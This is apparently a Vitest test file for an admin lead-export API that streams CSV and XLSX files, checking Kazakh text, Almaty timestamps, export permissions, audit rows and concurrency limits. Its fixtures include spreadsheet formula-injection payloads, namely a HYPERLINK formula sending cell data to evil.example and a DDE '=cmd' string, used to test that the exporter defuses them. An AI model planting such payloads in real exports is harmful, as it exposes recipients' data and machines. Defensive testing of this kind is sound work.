import ExcelJS from 'exceljs';
import { desc, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import type { OpenDb } from '@/lib/db/open';
import { auditLog, leads } from '@/lib/db/schema';
import type { Db } from '@/lib/db/types';
import { bulkInsert } from '@/scripts/seed/bulk';
import { createTestDb, dbLabel, setAppDb } from '@/test/db';
import { call, enrolledStaff, staffRequest } from '@/test/staff';

type ErrorBody = { error: { code: string; message: string; fields?: Record<string, string> } };

/** An RFC 4180 reader, written apart from the exporter: quoted fields, doubled quotes, CRLF. */
function parseCsv(text: string, delimiter: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  const endField = () => {
    row.push(field);
    field = '';
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"' && field === '') quoted = true;
    else if (c === delimiter) endField();
    else if (c === '\r' && text[i + 1] === '\n') {
      endField();
      rows.push(row);
      row = [];
      i++;
    } else if (c === '\n') throw new Error(`bare LF at ${i}: records end with CRLF`);
    else field += c;
  }
  if (field !== '' || row.length) {
    endField();
    rows.push(row);
  }
  return rows;
}

const KAZAKH_NAME = 'Әйгерім Құрманғали Өңірқызы Ұлықбек Үміт Һәдия Іңкәр';
const TRICKY_NAME = 'Иванов; "Ваня"\nПетрович';
const FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"click")';

async function addLead(db: Db, values: Partial<typeof leads.$inferInsert> = {}) {
  const [row] = await db
    .insert(leads)
    .values({ kind: 'callback', name: 'Лид', phone: '+77011234567', locale: 'ru', page: '/', ...values })
    .returning({ id: leads.id });
  return row!.id;
}

describe(`lead exports: CSV and XLSX, streamed, audited, export scope only (${dbLabel()})`, () => {
  let t: OpenDb;
  let csv: unknown, xlsx: unknown;
  let sales: Awaited<ReturnType<typeof enrolledStaff>>;
  const ids = { kazakh: 0, tricky: 0, formula: 0, plus: 0 };

  beforeAll(async () => {
    vi.spyOn(console, 'info').mockImplementation(() => {});
    t = await createTestDb();
    setAppDb(t);
    csv = (await import('./export.csv/route')).GET;
    xlsx = (await import('./export.xlsx/route')).GET;
    sales = await enrolledStaff(t.db, { email: 'sales@school.kz', scopes: ['sales', 'export'], name: 'Дана Менеджер' });
    ids.kazakh = await addLead(t.db, {
      name: KAZAKH_NAME,
      kind: 'trial',
      status: 'won',
      locale: 'kk',
      page: '/stud-tariff-plans',
      plan: 'intensive',
      promoCode: 'TILMEN10',
      assigneeId: sales.id,
      utmFirst: { utm_source: 'google', utm_medium: 'cpc', utm_campaign: 'күзгі_науқан', utm_term: 'қазақ тілі курсы', utm_content: 'banner_a' },
      utmLast: { utm_source: 'instagram', utm_medium: 'social', utm_campaign: 'осень_2026' },
      createdAt: new Date('2026-11-20T19:30:00Z'), // 00:30 on the 21st in Almaty
    });
    ids.tricky = await addLead(t.db, { name: TRICKY_NAME, status: 'lost', lostReason: 'too_expensive' });
    ids.formula = await addLead(t.db, { name: FORMULA_NAME, utmLast: { utm_source: "=cmd|' /C calc'!A0", utm_campaign: '@SUM(1+1)' } });
    ids.plus = await addLead(t.db, { name: '+7 701 пишите в WhatsApp', utmLast: { utm_medium: '-2+3' } });
  });
  afterAll(() => t.close());

  const get = (handler: unknown, query = '', opts: { cookie?: string; locale?: string } = {}) =>
    call(handler, staffRequest(`/api/admin/leads/export${handler === csv ? '.csv' : '.xlsx'}${query}`, { cookie: opts.cookie ?? sales.cookie, locale: opts.locale }));

  it('CSV: BOM, `;`, CRLF, a header in the request language, every lead with Kazakh letters, utm and a whole phone', async () => {
    const res = await get(csv);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="leads-\d{4}-\d{2}-\d{2}\.csv"$/);
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder('utf-8', { fatal: true }).decode(bytes.slice(3));
    const [header, ...rows] = parseCsv(text, ';');
    expect(header).toEqual(expect.arrayContaining(['№', 'Создана (время Алматы)', 'Имя', 'Телефон', 'utm_source (первое касание)', 'utm_campaign (последнее касание)', 'Причина отказа']));
    expect(rows).toHaveLength(4);
    expect(rows.every((r) => r.length === header!.length)).toBe(true);
    const col = (name: string) => header!.indexOf(name);
    const row = rows.find((r) => r[0] === String(ids.kazakh))!;
    expect(row[col('Имя')]).toBe(KAZAKH_NAME);
    for (const letter of 'әғқңөұүһі') expect(row[col('Имя')]!.toLowerCase()).toContain(letter);
    expect(row[col('Телефон')]).toBe('+77011234567');
    expect(row[col('Создана (время Алматы)')]).toBe('2026-11-21 00:30');
    expect(row[col('Тип заявки')]).toBe('Пробный урок после теста');
    expect(row[col('Статус')]).toBe('Успешно');
    expect(row[col('Ответственный')]).toBe('Дана Менеджер');
    expect(row[col('Тариф')]).toBe('intensive');
    expect(row[col('Промокод')]).toBe('TILMEN10');
    expect(row[col('utm_source (первое касание)')]).toBe('google');
    expect(row[col('utm_campaign (первое касание)')]).toBe('күзгі_науқан');
    expect(row[col('utm_term (первое касание)')]).toBe('қазақ тілі курсы');
    expect(row[col('utm_source (последнее касание)')]).toBe('instagram');
    expect(row[col('utm_campaign (последнее касание)')]).toBe('осень_2026');
    const tricky = rows.find((r) => r[0] === String(ids.tricky))!;
    expect(tricky[col('Имя')]).toBe(TRICKY_NAME);
    expect(tricky[col('Причина отказа')]).toBe('Дорого');
    expect(text).toContain('"Иванов; ""Ваня""\nПетрович"');
  });

  it('CSV injection: formula-looking names and utm values get an apostrophe, the phone stays +77…', async () => {
    const text = (await (await get(csv)).text()).replace(/^\uFEFF/, '');
    const [header, ...rows] = parseCsv(text, ';');
    const col = (name: string) => header!.indexOf(name);
    const formula = rows.find((r) => r[0] === String(ids.formula))!;
    expect(formula[col('Имя')]).toBe(`'${FORMULA_NAME}`);
    expect(formula[col('utm_source (последнее касание)')]).toBe("'=cmd|' /C calc'!A0");
    expect(formula[col('utm_campaign (последнее касание)')]).toBe("'@SUM(1+1)");
    const plus = rows.find((r) => r[0] === String(ids.plus))!;
    expect(plus[col('Имя')]).toBe("'+7 701 пишите в WhatsApp");
    expect(plus[col('utm_medium (последнее касание)')]).toBe("'-2+3");
    expect(plus[col('Телефон')]).toBe('+77011234567');
    // No cell of the file starts a formula, apart from plain +digits numbers.
    for (const r of rows) for (const cell of r) expect(/^[=+\-@\t\r]/.test(cell) && !/^\+\d+$/.test(cell)).toBe(false);
  });

  it('the filter of the list applies, and the header follows `lang` (the page) over Accept-Language', async () => {
    const text = (await (await get(csv, '?status=won&touch=last&utm_source=instagram&lang=kk', { locale: 'en' })).text()).replace(/^\uFEFF/, '');
    const [header, ...rows] = parseCsv(text, ';');
    expect(header).toContain('Аты-жөні');
    expect(header).toContain('utm_source (алғашқы келу)');
    expect(rows.map((r) => r[0])).toEqual([String(ids.kazakh)]);
    expect(rows[0]).toContain('Сәтті аяқталды');
    const byName = parseCsv((await (await get(csv, '?q=%D0%98%D0%B2%D0%B0%D0%BD', { locale: 'en' })).text()).replace(/^\uFEFF/, ''), ';');
    expect(byName[0]).toContain('Name');
    expect(byName.slice(1).map((r) => r[0])).toEqual([String(ids.tricky)]);
  });

  it('XLSX parses back with exceljs: the name and utm in their cells, dates as dates, formulas as plain text', async () => {
    const res = await get(xlsx, '', { locale: 'kk' });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="leads-\d{4}-\d{2}-\d{2}\.xlsx"$/);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from(await res.arrayBuffer()) as unknown as ExcelJS.Buffer);
    const sheet = book.worksheets[0]!;
    expect(sheet.name).toBe('Өтінімдер');
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const col = (name: string) => header.indexOf(name) + 1;
    expect(col('Аты-жөні')).toBeGreaterThan(0);
    expect(sheet.rowCount).toBe(5);
    const rowOf = (id: number) => {
      for (let r = 2; r <= sheet.rowCount; r++) if (sheet.getRow(r).getCell(1).value === id) return sheet.getRow(r);
      throw new Error(`no row for ${id}`);
    };
    const row = rowOf(ids.kazakh);
    expect(row.getCell(col('Аты-жөні')).value).toBe(KAZAKH_NAME);
    expect(row.getCell(col('Телефон')).value).toBe('+77011234567');
    expect(row.getCell(col('utm_source (алғашқы келу)')).value).toBe('google');
    expect(row.getCell(col('utm_campaign (соңғы келу)')).value).toBe('осень_2026');
    const created = row.getCell(col('Түскен уақыты (Алматы)')).value as Date;
    expect(created).toBeInstanceOf(Date);
    expect(created.toISOString()).toBe('2026-11-21T00:30:00.000Z'); // shows 00:30, Almaty's wall clock
    expect(rowOf(ids.tricky).getCell(col('Аты-жөні')).value).toBe(TRICKY_NAME);
    expect(rowOf(ids.tricky).getCell(col('Бас тарту себебі')).value).toBe('Бағасы қымбат'); // the reason in words, in the export's language
    expect(rowOf(ids.formula).getCell(col('Аты-жөні')).value).toBe(FORMULA_NAME); // a string, not { formula }
  });

  it('exporting is a permission of its own: a seller without it and a reviewer get 403, signed out 401, an admin may', async () => {
    const reviewer = await enrolledStaff(t.db, { email: 'reviewer@school.kz', scopes: ['reviewer'] });
    const seller = await enrolledStaff(t.db, { email: 'seller-noexport@school.kz', scopes: ['sales'] });
    const admin = await enrolledStaff(t.db, { email: 'admin@school.kz', scopes: ['admin'] });
    for (const handler of [csv, xlsx]) {
      expect((await get(handler, '', { cookie: seller.cookie, locale: 'en' })).status).toBe(403);
      const forbidden = await get(handler, '', { cookie: reviewer.cookie, locale: 'en' });
      expect(forbidden.status).toBe(403);
      expect(((await forbidden.json()) as ErrorBody).error.code).toBe('forbidden');
      const out = await call(handler, staffRequest(`/api/admin/leads/export.csv`));
      expect(out.status).toBe(401);
      const ok = await get(handler, '', { cookie: admin.cookie });
      expect(ok.status).toBe(200);
      await ok.body?.cancel();
    }
    const rows = await t.db.select().from(auditLog).where(eq(auditLog.actorId, reviewer.id));
    expect(rows.filter((r) => r.action === 'lead.export')).toHaveLength(0);
  });

  it('a bad query is 422 with the fields in the request language, and nothing is audited', async () => {
    const before = (await t.db.select().from(auditLog).where(eq(auditLog.action, 'lead.export'))).length;
    const res = await get(csv, '?status=maybe&from=2026-13-45&lang=de', { locale: 'en' });
    expect(res.status).toBe(422);
    const body = (await res.json()) as ErrorBody;
    expect(body.error.code).toBe('validation_failed');
    expect(Object.keys(body.error.fields ?? {})).toEqual(expect.arrayContaining(['status', 'from']));
    expect(body.error.message).toMatch(/[a-z]/i);
    const lang = await get(xlsx, '?lang=de', { locale: 'kk' });
    expect(lang.status).toBe(422);
    expect(((await lang.json()) as ErrorBody).error.fields?.lang).toBeTruthy();
    expect((await t.db.select().from(auditLog).where(eq(auditLog.action, 'lead.export'))).length).toBe(before);
  });

  it('every export writes an audit row before the file: who, the format, the filter as set, the row count', async () => {
    const res = await get(xlsx, '?status=won&q=&page=3&kind=trial');
    const [row] = await t.db.select().from(auditLog).where(eq(auditLog.action, 'lead.export')).orderBy(desc(auditLog.id)).limit(1);
    // Written before a byte of the body was read.
    expect(row).toMatchObject({ actorKind: 'staff', actorId: sales.id, actorLabel: 'sales@school.kz', entity: 'lead', after: { format: 'xlsx', filter: { status: 'won', kind: 'trial' }, rows: 1 } });
    expect(row!.ipHash).toBeTruthy();
    await res.body?.cancel();
  });

  describe('20 000 leads', () => {
    let batchReads = 0; // batch reads: the export reads its batches with `execute` (the session and the count use `select`)
    beforeAll(async () => {
      const batch = Array.from({ length: 1000 }, (_, i) => ({ kind: 'quiz', name: `Бекзат Серікұлы ${i}`, phone: `+7701${String(1000000 + i).slice(1)}`, locale: 'kk', page: '/stud-quiz', utmLast: { utm_source: 'tiktok' } }));
      for (let k = 0; k < 20; k++) await bulkInsert(t.db, leads, batch);
      // Count the batches the export reads: the app's database, with `execute` observed.
      const counted = new Proxy(t.db, {
        get(target, prop, receiver) {
          const v = Reflect.get(target, prop, receiver) as unknown;
          if (prop === 'execute' && typeof v === 'function') return (...a: unknown[]) => (batchReads++, (v as (...x: unknown[]) => unknown).apply(target, a));
          return typeof v === 'function' ? (v as (...x: unknown[]) => unknown).bind(target) : v;
        },
      });
      setAppDb({ ...t, db: counted });
    }, 120_000);
    afterAll(() => setAppDb(t));

    const wait = (ms: number) => new Promise((r) => setTimeout(r, ms));

    for (const format of ['csv', 'xlsx'] as const) {
      it(`${format}: batches of 1000 are read as the download goes, and a closed download stops the reads`, async () => {
        const before = batchReads;
        const res = await get(format === 'csv' ? csv : xlsx, '?kind=quiz');
        expect(res.status).toBe(200);
        const reader = res.body!.getReader();
        expect((await reader.read()).done).toBe(false);
        await wait(300);
        const early = batchReads - before;
        expect(early).toBeGreaterThanOrEqual(1);
        expect(early).toBeLessThanOrEqual(3); // of 20: the rest waits for the reader
        await reader.cancel();
        await wait(300);
        const atCancel = batchReads;
        await wait(300);
        expect(batchReads).toBe(atCancel);
        expect(batchReads - before).toBeLessThanOrEqual(4);
      });
    }

    it('csv: the whole 20 000 arrive, read in 20 batches, in bounded memory', async () => {
      const heap0 = process.memoryUsage().heapUsed;
      let peak = heap0;
      const before = batchReads;
      const res = await get(csv, '?kind=quiz');
      const reader = res.body!.getReader();
      let lines = 0;
      let tail = 0;
      for (;;) {
        const { done, value } = await reader.read();
        if (done) break;
        for (const b of value) if (b === 0x0a) lines++;
        tail = value[value.length - 1]!;
        peak = Math.max(peak, process.memoryUsage().heapUsed);
      }
      expect(tail).toBe(0x0a);
      expect(lines).toBe(20_001); // the header and every lead
      expect(batchReads - before).toBe(20);
      // The file is ~2 MB; the rows as objects several times more. Held whole, the heap would grow by that.
      expect(peak - heap0).toBeLessThan(48 * 2 ** 20);
    }, 60_000);

    it('three downloads at once at most: a fourth is told to wait (429, Retry-After, in the language); one ending frees a place', async () => {
      const open = await Promise.all([get(csv, '?kind=quiz'), get(xlsx, '?kind=quiz'), get(csv, '?kind=quiz')]);
      const readers = open.map((r) => r.body!.getReader());
      for (const r of readers) expect((await r.read()).done).toBe(false);
      const busy = await get(xlsx, '?kind=quiz', { locale: 'kk' });
      expect(busy.status).toBe(429);
      expect(busy.headers.get('retry-after')).toBe('30');
      expect((await busy.json()).error).toMatchObject({ code: 'export_busy', message: expect.stringContaining('жүктеліп жатыр') });
      await readers[0]!.cancel(); // a closed download
      let rest = 0;
      for (;;) {
        const { done, value } = await readers[1]!.read(); // one read to its end
        if (done) break;
        rest += value.length;
      }
      expect(rest).toBeGreaterThan(0);
      const again = await Promise.all([get(csv, '?kind=quiz'), get(csv, '?kind=quiz')]);
      expect(again.map((r) => r.status)).toEqual([200, 200]);
      await Promise.all([...again.map((r) => r.body!.cancel()), readers[2]!.cancel()]);
    }, 60_000);

    it('xlsx: the whole 20 000 arrive and parse back', async () => {
      const res = await get(xlsx, '?kind=quiz');
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(Buffer.from(await res.arrayBuffer()) as unknown as ExcelJS.Buffer);
      const sheet = book.worksheets[0]!;
      expect(sheet.rowCount).toBe(20_001);
      expect(sheet.getRow(20_001).getCell(5).value).toBe('Бекзат Серікұлы 999');
    }, 60_000);
  });
});
